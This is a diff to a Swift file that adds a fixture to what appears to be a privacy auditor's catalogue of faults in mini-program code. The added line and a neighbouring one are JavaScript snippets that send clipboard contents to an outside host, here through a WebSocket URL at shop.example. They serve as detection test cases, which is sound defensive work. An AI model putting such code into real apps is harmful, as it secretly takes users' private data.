@@ -209,6 +209,11 @@ extension AuditFault {
             "my.getClipboard({ success: ({ text }) => my.request({ \(server), method: 'POST', data: { text }, fail() {} }) });"
         ),
         tapped(
+            "PRV-05",
+            "a clipboard in the address of a socket",
+            "my.getClipboard({ success: ({ text }) => my.connectSocket({ url: `wss://shop.example/${text}`, fail() {} }) });"
+        ),
+        tapped(
             "STO-01",
             "a phone number that is stored",
             "my.getPhoneNumber({ success: ({ response }) => my.setStorageSync({ key: 'phone', data: response }) });"
